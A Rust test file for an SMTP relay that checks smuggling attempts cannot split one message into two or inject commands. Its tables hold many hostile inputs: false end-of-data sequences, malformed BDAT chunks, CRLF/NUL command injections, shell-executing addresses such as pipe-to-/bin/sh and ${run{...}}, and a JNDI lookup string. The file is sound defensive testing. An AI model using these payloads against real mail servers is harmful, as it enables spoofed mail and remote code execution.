//! One message stays one message: what has been used to make two of one, or commands of text, as a
//! table of our own, through the real listener to a mail exchanger.

use std::collections::BTreeSet;

use sealpost_tests::{Relay, SmtpClient};
use testkit::FakeMx;

use crate::net::{MESSAGE, Net, sent};

testkit::net_test! {
    async fn h5_01_h5_02_e3_05_e3_06_no_message_becomes_two() {
        let net = Net::start().await;
        let mx = net.plain_mx("d.test", "127.0.0.25").await;
        for normalize in [false, true] {
            let networks = if normalize { r#"["127.0.0.1/32"]"# } else { "[]" };
            let relay = Relay::start(net.config().set("access.normalize-networks", networks)).await;
            for (name, end) in FALSE_ENDS {
                let replies = smuggle(&relay, &data(end)).await;
                judge(name, normalize, &replies, end);
            }
            for (name, content) in CHUNKS {
                let replies = smuggle(&relay, content).await;
                let accepted = replies.iter().filter(|r| r.contains("queued as")).count();
                assert!(accepted <= 1, "{name}: {replies:?}");
            }
            only_what_was_meant(&relay, &mx).await;
        }
    }

    async fn h5_07_no_text_becomes_a_command() {
        let net = Net::start().await;
        let mx = net.plain_mx("d.test", "127.0.0.25").await;
        let config = net.config().set("access.xforward-hosts", r#"["127.0.0.1"]"#)
            .set("access.xclient-hosts", r#"["127.0.0.1"]"#);
        let relay = Relay::start(config).await;
        for line in INJECTIONS {
            let mut client = relay.client().await;
            client.write(line).await;
            client.write(b"\r\n").await;
            // Whatever it is, it is one command: one reply, or the end.
            let first = client.try_reply().await;
            client.write(b"NOOP\r\n").await;
            let second = client.try_reply().await;
            let shown = line.escape_ascii();
            if let (Some(first), Some(second)) = (&first, &second) {
                assert_eq!(second.code, 250, "{shown}: {first:?} {second:?}");
                client.write(b"QUIT\r\n").await;
                let bye = client.try_reply().await;
                assert_eq!(bye.map(|r| r.code), Some(221), "{shown}: {first:?}");
            }
        }
        only_what_was_meant(&relay, &mx).await;
        for event in relay.events() {
            let text = event.to_string();
            assert!(!text.contains('\r') && !text.contains('\0'), "{text:?}");
        }
    }
}

/// A message whose content has `end` in its midst, and commands behind it.
fn data(end: &[u8]) -> Vec<u8> {
    let mut all = b"DATA\r\nSubject: one\r\n\r\none".to_vec();
    all.extend_from_slice(end);
    all.extend_from_slice(
        b"MAIL FROM:<evil@org.test>\r\nRCPT TO:<victim@d.test>\r\nDATA\r\n\
          Subject: two\r\n\r\nsmuggled\r\n.\r\n",
    );
    all
}

/// Sends an envelope and this behind it; all replies up to the end of the connection.
async fn smuggle(relay: &Relay, content: &[u8]) -> Vec<String> {
    let mut client = relay.client().await;
    client.command("MAIL FROM:<a@org.test>").await.demand(250);
    client.command("RCPT TO:<b@d.test>").await.demand(250);
    client.write(&[content, b"\r\nQUIT\r\n"].concat()).await;
    all_replies(&mut client).await
}

async fn all_replies(client: &mut SmtpClient) -> Vec<String> {
    let mut replies = Vec::new();
    while let Some(reply) = client.try_reply().await {
        let over = reply.code == 221;
        replies.push(format!("{} {}", reply.code, reply.text()));
        if over {
            break;
        }
    }
    replies
}

/// Refused, or one message; in the normalizing mode one message, since no octet of it is an end. What
/// is the end to those who drop NUL is refused in both.
fn judge(name: &str, normalize: bool, replies: &[String], end: &[u8]) {
    let accepted = replies.iter().filter(|r| r.contains("queued as")).count();
    let refused = replies.iter().any(|r| r.starts_with("550 "));
    let is_end_without_nul = end == b"\r\n\0.\r\n";
    if !is_end_without_nul && (normalize || !has_bare_newline(end)) {
        assert!(accepted == 1 && !refused, "{name}: {replies:?}");
    } else {
        assert!(accepted == 0 && refused, "{name}: {replies:?}");
    }
    let transactions = replies.iter().filter(|r| r.contains(" 2.1.0 ")).count();
    assert_eq!(transactions, 0, "{name}: {replies:?}");
}

fn has_bare_newline(octets: &[u8]) -> bool {
    (0..octets.len()).any(|at| match octets[at] {
        b'\r' => octets.get(at + 1) != Some(&b'\n'),
        b'\n' => at == 0 || octets[at - 1] != b'\r',
        _ => false,
    })
}

/// Mail goes on, and nothing that came to the mail exchanger was put together by somebody else.
async fn only_what_was_meant(relay: &Relay, mx: &FakeMx) {
    let id = relay.send("a@org.test", &["b@d.test"], MESSAGE).await;
    sent(relay, &id).await;
    let recipients: BTreeSet<String> = mx
        .messages()
        .iter()
        .flat_map(|m| m.recipients())
        .map(|to| to.to_string())
        .collect();
    assert_eq!(recipients.into_iter().collect::<Vec<_>>(), ["b@d.test"]);
    assert!(mx.messages().iter().all(|m| m.from == "a@org.test"));
}

/// What servers have been found to take for CRLF . CRLF.
const FALSE_ENDS: &[(&str, &[u8])] = &[
    ("LF . LF", b"\n.\n"),
    ("LF . CRLF", b"\n.\r\n"),
    ("CRLF . LF", b"\r\n.\n"),
    ("CR . CR", b"\r.\r"),
    ("CR . CRLF", b"\r.\r\n"),
    ("CRLF . CR", b"\r\n.\r"),
    ("CR . LF", b"\r.\n"),
    ("LF . CR", b"\n.\r"),
    ("CRLF . CR CRLF", b"\r\n.\r\r\n"),
    ("CR CRLF . CR CRLF", b"\r\r\n.\r\r\n"),
    ("LF LF . CRLF", b"\n\n.\r\n"),
    ("CRLF NUL . CRLF", b"\r\n\0.\r\n"),
    ("CRLF . NUL CRLF", b"\r\n.\0\r\n"),
    ("CRLF NUL . CR", b"\r\n\0.\r"),
    ("CRLF NUL . LF", b"\r\n\0.\n"),
    ("CRLF . CR NUL LF", b"\r\n.\r\0\n"),
    ("CR NUL LF . CR NUL LF", b"\r\0\n.\r\0\n"),
    ("CR LF LF . CR LF LF", b"\r\n\n.\r\n\n"),
    ("LF CR . LF CR", b"\n\r.\n\r"),
    // No line ends at all to whoever goes by RFC 5321, but characters that some call white space or
    // a new line, and octets that some remove.
    ("CRLF . SP CRLF", b"\r\n. \r\n"),
    ("CRLF . HT CRLF", b"\r\n.\t\r\n"),
    ("CRLF SP . CRLF", b"\r\n .\r\n"),
    ("CRLF . . CRLF", b"\r\n..\r\n"),
    ("VT . VT", b"\x0b.\x0b"),
    ("FF . FF", b"\x0c.\x0c"),
    ("RS . RS", b"\x1e.\x1e"),
    ("SUB at the begin of a line", b"\r\n\x1a\r\n"),
    ("EOT at the begin of a line", b"\r\n\x04\r\n"),
    ("CRLF . BS CRLF", b"\r\n.\x08\r\n"),
    ("CRLF DEL . CRLF", b"\r\n\x7f.\r\n"),
    ("IAC . IAC", b"\xff.\xff"),
    ("NEL . NEL", "\u{85}.\u{85}".as_bytes()),
    ("NEL . NEL in Latin-1", b"\x85.\x85"),
    ("NL . NL in EBCDIC", b"\x15.\x15"),
    ("LS . LS", "\u{2028}.\u{2028}".as_bytes()),
    (
        "CRLF with high bits . CRLF with high bits",
        b"\x8d\x8a.\x8d\x8a",
    ),
    (
        "CRLF, overlong . CRLF, overlong",
        b"\xc0\x8d\xc0\x8a.\xc0\x8d\xc0\x8a",
    ),
    ("full-width dot", "\r\n\u{ff0e}\r\n".as_bytes()),
    ("byte order mark", "\r\n\u{feff}.\r\n".as_bytes()),
    ("soft hyphen", b"\r\n\xad.\r\n"),
    ("quoted-printable", b"=0D=0A.=0D=0A"),
    ("written out", b"\\r\\n.\\r\\n"),
];

/// The same through BDAT: sizes that do not fit what follows, dots and lone line ends at borders.
const CHUNKS: &[(&str, &[u8])] = &[
    (
        "a dot at the border of two chunks",
        b"BDAT 15\r\nSubject: x\r\n\r\n\nBDAT 3 LAST\r\n.\r\n",
    ),
    (
        "CR at the end of a chunk, LF at the begin of the next",
        b"BDAT 13\r\nSubject: x\r\n\rBDAT 6 LAST\r\n\n.\r\nxx",
    ),
    (
        "DATA's end inside of a chunk",
        b"BDAT 33 LAST\r\nSubject: x\r\n\r\none\r\n.\r\nMAIL FROM:<",
    ),
    (
        "a size that is too small: what is left over is no command of a transaction",
        b"BDAT 12 LAST\r\nSubject: x\r\nDATA\r\nsmuggled\r\n.\r\n",
    ),
    (
        "a size that is no number",
        b"BDAT 0x10 LAST\r\nMAIL FROM:<evil@org.test>\r\nRCPT TO:<victim@d.test>\r\n",
    ),
    (
        "a size that does not fit 64 bits",
        b"BDAT 18446744073709551617 LAST\r\nMAIL FROM:<evil@org.test>\r\n",
    ),
    (
        "a negative size",
        b"BDAT -1 LAST\r\nMAIL FROM:<evil@org.test>\r\n",
    ),
    (
        "LAST chunk of no octets before the rest",
        b"BDAT 12\r\nSubject: x\r\nBDAT 0 LAST\r\n\r\nsmuggled\r\n.\r\n",
    ),
    (
        "a size with a sign",
        b"BDAT +12 LAST\r\nSubject: x\r\nMAIL FROM:<evil@org.test>\r\n",
    ),
    (
        "two sizes",
        b"BDAT 12 99 LAST\r\nSubject: x\r\nMAIL FROM:<evil@org.test>\r\n",
    ),
    (
        "LAST twice",
        b"BDAT 12 LAST LAST\r\nSubject: x\r\nMAIL FROM:<evil@org.test>\r\n",
    ),
    (
        "a bare LF behind the size",
        b"BDAT 12 LAST\nSubject: x\r\nMAIL FROM:<evil@org.test>\r\n",
    ),
    (
        "DATA after BDAT",
        b"BDAT 12\r\nSubject: x\r\nDATA\r\nSubject: two\r\n\r\nx\r\n.\r\n",
    ),
];

/// Text with line ends in it, raw or encoded, where a command or a log line could be made of it.
const INJECTIONS: &[&[u8]] = &[
    b"EHLO client.test\nMAIL FROM:<evil@org.test>",
    b"EHLO client.test\rMAIL FROM:<evil@org.test>",
    b"EHLO client.test\0MAIL FROM:<evil@org.test>",
    b"MAIL FROM:<a@org.test>\nRCPT TO:<victim@d.test>",
    b"MAIL FROM:<a@org.test>\rRCPT TO:<victim@d.test>",
    b"MAIL FROM:<a@org.test\0>",
    b"MAIL FROM:<\"a\rRCPT TO:<victim@d.test>\"@org.test>",
    b"MAIL FROM:<\"a\\\nRCPT TO:<victim@d.test>\"@org.test>",
    b"MAIL FROM:<a@org.test> ENVID=x+0D+0ARCPT+20TO:<victim@d.test>",
    b"MAIL FROM:<a@org.test> ENVID=x\x0bRCPT",
    b"MAIL FROM:<a@org.test> AUTH=x+0D+0ADATA",
    b"MAIL FROM:<a@org.test> SIZE=1\tBODY=8BITMIME",
    b"RCPT TO:<b@d.test> ORCPT=rfc822;b+0D+0ADATA",
    b"XFORWARD IDENT=x+0D+0A2026-11-22+20evil",
    b"XFORWARD NAME=x+0AMAIL+20FROM:<evil@org.test>",
    b"XCLIENT HELO=x+0D+0AMAIL+20FROM:<evil@org.test>",
    b"XCLIENT LOGIN=x+00admin",
    "EHLO client.test\u{2028}MAIL FROM:<evil@org.test>".as_bytes(),
    "EHLO client.test\u{85}MAIL FROM:<evil@org.test>".as_bytes(),
    b"EHLO client.test\xc0\x8aMAIL FROM:<evil@org.test>",
    b"NOOP \x1b[2J\x07",
    b"VRFY b@d.test\nDATA",
    b"HELP\x00\x0d",
    // Commands with more than they take, and what other protocols and old servers know.
    b"RSET MAIL FROM:<evil@org.test>",
    b"DATA\nSubject: x\n\n.\nMAIL FROM:<evil@org.test>",
    b"QUIT\nMAIL FROM:<evil@org.test>",
    b"STARTTLS\nMAIL FROM:<evil@org.test>",
    b"STARTTLS MAIL FROM:<evil@org.test>",
    b"AUTH PLAIN =\nMAIL FROM:<evil@org.test>",
    b"AUTH LOGIN\rMAIL FROM:<evil@org.test>",
    b"SEND FROM:<evil@org.test>",
    b"SOML FROM:<evil@org.test>",
    b"SAML FROM:<evil@org.test>",
    b"TURN",
    b"ETRN d.test",
    b"ATRN d.test",
    b"BURL imap://evil@d.test/INBOX LAST",
    b"WIZ",
    b"DEBUG",
    b"X-EXPS GSSAPI",
    b"ONEX",
    b"VERB",
    // Addresses that a shell, a file system or a mailer has been seen to act on.
    b"MAIL FROM:<|/bin/sh@org.test>",
    b"MAIL FROM:<\"|/bin/sh\"@org.test>",
    b"MAIL FROM:<;for i in 0 1;do read r;done;sh;exit 0;>",
    b"MAIL FROM:<${run{/bin/sh}}@org.test>",
    b"MAIL FROM:<`id`@org.test>",
    b"MAIL FROM:<$(id)@org.test>",
    b"MAIL FROM:</tmp/x@org.test>",
    b"MAIL FROM:<../../x@org.test>",
    b"MAIL FROM:<%s%n@org.test>",
    b"MAIL FROM:<a@org.test>\tRCPT TO:<victim@d.test>",
    b"MAIL FROM:<a@org.test> RCPT TO:<victim@d.test>",
    b"MAIL FROM:<a@org.test>\x0bRCPT TO:<victim@d.test>",
    b"MAIL FROM:<a@org.test>%0d%0aRCPT TO:<victim@d.test>",
    b"MAIL FROM:<a@org.test,evil@org.test>",
    b"MAIL FROM:<a@org.test><evil@org.test>",
    b"MAIL FROM:<<a@org.test>>",
    b"MAIL FROM:<a@org.test> BODY=8BITMIME\nDATA",
    b"MAIL FROM:<a@org.test> RET=HDRS\0",
    "MAIL FROM:<a\u{2029}@org.test> SMTPUTF8".as_bytes(),
    "MAIL FROM:<a\u{202e}@org.test> SMTPUTF8".as_bytes(),
    b"MAIL FROM:<a\xc0\x8aRCPT@org.test> SMTPUTF8",
    b"EHLO x\x1b]0;evil\x07",
    b"EHLO ${jndi:ldap://evil.test/x}",
    b"XFORWARD ADDR=127.0.0.1+0D+0AIDENT=evil",
    b"XCLIENT ADDR=127.0.0.1 NAME=x+00+0D+0AMAIL",
];
